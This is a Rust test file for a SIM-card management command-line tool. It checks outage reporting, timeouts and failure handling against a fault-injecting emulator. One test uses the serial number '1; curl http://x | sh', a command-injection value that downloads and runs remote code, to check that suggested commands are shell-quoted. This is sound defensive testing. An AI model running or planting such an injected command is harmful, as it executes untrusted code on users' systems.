//! Failures during a wait: reported when they begin and when they end, and at a deadline.

use serde_json::json;

use crate::support::{Emulator, ICCID, SIM, Scripted, haoka_answer};

fn count(text: &str, part: &str) -> usize {
    text.lines().filter(|line| line.contains(part)).count()
}

#[test]
fn a_wait_survives_an_outage_and_reports_its_begin_and_end_once() {
    let cases: [(&str, &[&str]); 6] = [
        ("throttle@GetCardRealStatus*4+1", &["status", ICCID, "--timeout", "5m"]),
        ("html@GetCardRealStatus*12+1", &["status", ICCID, "--timeout", "5m"]),
        ("cut-after-read@GetCardRealStatus*4+1", &["status", ICCID, "--timeout", "5m"]),
        ("throttle@querySimAction*4", &["actions", "--sim-no", SIM, "--timeout", "20m"]),
        ("html@querySimAction*12", &["suspend", SIM, "--yes"]),
        ("cut-after-read@batchQuerySimStatus*6", &["restore", SIM, "--yes"]),
    ];
    let setup = Emulator::with_cards("outage-record.json");
    assert_eq!(setup.run(&["suspend", SIM, "--yes"]).code(), 0);
    for (fault, arguments) in cases {
        let emulator = Emulator::with_cards_and("outage.json", &["--fault", fault]);
        if arguments[0] == "actions" {
            // The record exists once the submission was handed over.
            assert_eq!(emulator.run(&["suspend", SIM, "--yes", "--no-wait"]).code(), 4);
        }
        let ended = emulator.run(&[&["-o", "jsonl"], arguments].concat());
        assert_eq!((ended.code(), ended.out.lines().count()), (0, 1), "{fault}: {ended:?}");
        assert_eq!(count(&ended.err, "polls fail, and are repeated until the deadline: "), 1, "{fault}: {ended:?}");
        assert_eq!(count(&ended.err, "polls succeed again, after "), 1, "{fault}: {ended:?}");
    }
}

#[test]
fn the_last_failure_is_reported_at_the_deadline() {
    for (fault, arguments, code) in [
        ("html@GetCardRealStatus+1", ["status", ICCID].as_slice(), 4),
        ("html@GetCardRealStatus", &["status", ICCID], 1),
        ("html@querySimAction", &["suspend", SIM, "--yes"], 4),
        ("html@batchQuerySimStatus", &["suspend", SIM, "--yes"], 4),
        ("html@querySimAction", &["actions", "--sim-no", SIM, "--wait"], 1),
    ] {
        let emulator = Emulator::with_cards_and("late.json", &["--fault", fault]);
        let ended = emulator.run(&[&["-o", "jsonl"], arguments].concat());
        assert_eq!((ended.code(), ended.out.lines().count()), (code, 1), "{fault}: {ended:?}");
        let row: serde_json::Value = serde_json::from_str(&ended.out).unwrap();
        assert!(row["error"].as_str().unwrap().contains("HTTP 502"), "{fault}: {row}");
        let last = ended.err.lines().rev().take(2).any(|line| line.contains("HTTP 502"));
        assert!(last, "{fault}: {ended:?}");
        assert_eq!(count(&ended.err, "polls fail, and are repeated"), 1, "{fault}: {ended:?}");
    }
}

#[test]
fn progress_mentions_an_outage_and_does_not_repeat_itself() {
    let emulator = Emulator::with_cards_and("progress.json", &["--fault", "html@querySimAction"]);
    let ended = emulator.run(&["suspend", SIM, "--yes", "--timeout", "1h"]);
    assert_eq!(ended.code(), 4, "{ended:?}");
    let progress: Vec<&str> = ended.err.lines().filter(|line| line.contains("1 not handed over")).collect();
    assert_eq!(progress.len(), 1, "{ended:?}");
    assert!(progress[0].contains("polls have failed for"), "{ended:?}");
}

#[test]
fn a_permanent_failure_ends_the_wait_of_a_command() {
    let rejected = r#"replace-body@querySimAction=200,application/json,{"code":-1,"message":"无权限访问该接口"}"#;
    let emulator = Emulator::with_cards_and("permanent.json", &["--fault", rejected]);
    let ended = emulator.run(&["-o", "jsonl", "suspend", SIM, "--yes", "--timeout", "24h"]);
    assert_eq!((ended.code(), ended.out.lines().count()), (1, 1), "{ended:?}");
    assert!(ended.out.contains("not_handed_over") && ended.out.contains("无权限访问该接口"), "{ended:?}");
    assert_eq!(count(&ended.err, "the wait ended, because a poll failed: "), 1, "{ended:?}");
    assert_eq!(count(&ended.err, "1 not handed over"), 1, "progress does not repeat itself: {ended:?}");
    assert!(emulator.requests() < 10);
}

#[test]
fn a_timeout_covers_the_whole_command() {
    // The service accepts connections and never responds.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", silent.local_addr().unwrap());
    for arguments in [["suspend", SIM, "--yes"].as_slice(), &["status", ICCID], &["actions", "--sim-no", SIM]] {
        let started = std::time::Instant::now();
        let all = [&["--emulator", &url, "-o", "jsonl"], arguments, &["--timeout", "1s"]].concat();
        let ended = crate::support::run(&mut crate::support::program(&all));
        assert!(started.elapsed() < std::time::Duration::from_secs(12), "{:?}: {ended:?}", started.elapsed());
        assert!(ended.code() != 0 && ended.out.lines().count() == 1, "{ended:?}");
    }
}

#[test]
fn a_failure_of_all_cards_ends_the_command_after_few_requests() {
    let emulator = Emulator::start(&["--access-key-secret", "another"]);
    let iccids: Vec<String> = (1..=500).map(|number| format!("8986000000000000{number:04}")).collect();
    let list = crate::support::file("all-fail.txt", &iccids.join("\n"));
    let ended = emulator.run(&["-o", "jsonl", "status", "--from", &list, "--no-state"]);
    assert_eq!((ended.code(), ended.out.lines().count()), (1, 500), "every card has a row");
    assert!(ended.err.contains("the access key secret is wrong"), "{:?}", ended.err);
    // The numbers have no check digits.
    let is_doubt = |line: &&str| line.contains("check digit");
    assert!(ended.err.lines().filter(|line| !is_doubt(line)).count() <= 2, "{:?}", ended.err);
    let ended = emulator.run(&["-o", "jsonl", "status", "--from", &list]);
    assert_eq!((ended.code(), ended.out.lines().count()), (1, 500), "every card has a row in a run, too");
    assert!(ended.err.contains("500 of 500 cards have no final result; go on with: simfleet runs resume"), "{ended:?}");
    assert!(emulator.requests() < 50);
}

#[test]
fn odd_serial_numbers_are_quoted_in_suggested_commands() {
    for (serial, shown) in [
        ("1; curl http://x | sh", Some("actions --serial-number '1; curl http://x | sh'")),
        ("it's", Some(r"actions --serial-number 'it'\''s'")),
        ("91178731657918899855270189630549", Some("actions --serial-number 91178731657918899855270189630549")),
        ("a\nsimfleet emulator", None),
    ] {
        let service = Scripted::start(move |head, _| {
            if head.contains("batchShutdown") {
                return haoka_answer(&json!({"serialNumber": serial, "items": [{"simNo": SIM, "isError": false}]}));
            }
            haoka_answer(&json!({"items": []}))
        });
        let ended = service.run(&["suspend", SIM, "--yes", "--no-wait"]);
        assert_eq!(ended.code(), 4, "{ended:?}");
        assert_eq!(ended.err.contains("simfleet actions"), shown.is_some(), "{ended:?}");
        assert!(ended.err.contains(shown.unwrap_or("is not usable")), "{ended:?}");
        assert!(ended.err.lines().all(|line| line.starts_with("simfleet: ")), "{ended:?}");
    }
}
